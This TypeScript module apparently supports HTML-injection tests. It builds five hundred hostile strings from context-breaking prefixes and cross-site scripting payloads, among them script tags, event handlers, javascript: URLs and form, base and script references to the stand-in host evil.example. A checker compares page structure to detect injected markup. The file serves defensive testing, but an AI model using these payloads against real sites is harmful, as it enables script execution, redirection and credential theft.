/** Prefixes that end the context of a text in HTML. */
const ESCAPES = [
  '',
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '-->',
  ']]>',
  '*/',
  '\\"',
  '\\u003c/script>',
  '\u2028',
  '</script>',
  '</ScRiPt >',
  '</style>',
  '</title>',
  '</textarea>',
  '<!--',
  '&quot;>',
];

/** Payloads that would run, load or navigate. */
const PAYLOADS = [
  '<script>harm()</script>',
  '<script src=//evil.example></script>',
  '<script type=module>harm()</script>',
  '<img src=x onerror=harm()>',
  '<img/src/onerror=harm()>',
  '<svg onload=harm()>',
  '<svg><script>harm()</script></svg>',
  '<math><mi//xlink:href="data:x,harm()">',
  '<iframe srcdoc="<script>harm()</script>">',
  '<a href=javascript:harm()>x</a>',
  '<a href="data:text/html,harm()">x</a>',
  '<form action=//evil.example><input name=a>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;//evil>',
  '<link rel=stylesheet href=//evil.example>',
  '<style>*{background:red}</style>',
  '<object data=javascript:harm()>',
  '<details open ontoggle=harm()>',
  '<input autofocus onfocus=harm()>',
  '<video><source onerror=harm()></video>',
  '<body onpageshow=harm()>',
  '<template><img src=x onerror=harm()></template>',
  ' onmouseover=harm() style=position:fixed x=',
  '%3Cscript%3Eharm()%3C/script%3E',
  '{{harm()}}',
];

/** Five hundred texts that are harmless as long as they stay texts. */
export const HOSTILE_TEXTS: readonly string[] = ESCAPES.flatMap((prefix) =>
  PAYLOADS.map((payload) => `${prefix}${payload}`),
);

const SCRIPT = /(<script[^>]*>)[\s\S]*?<\/script>/gi;
const TAG = /<(?:(\/?[a-z][\w-]*|!doctype)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?|!--[^<>]*--)>/gi;

/**
 * The structure of a page, independent of its texts: elements in order with their attribute names. Injected markup
 * changes it; a stray angle bracket is listed as well.
 */
export const skeletonOf = (html: string): string[] => {
  const page = html.replace(SCRIPT, '$1').replace(/(<style[^>]*>)[\s\S]*?<\/style>/g, '$1');
  const rest = page.replace(TAG, '');
  const elements = [...page.matchAll(TAG)].flatMap(([, name, attributes = '']) =>
    name ? [`${name}${attributes.replace(/="[^"]*"/g, '')}`] : [],
  );
  return [...elements, ...(rest.match(/<.{0,40}/g) ?? []).map((extra) => `stray ${extra}`)];
};
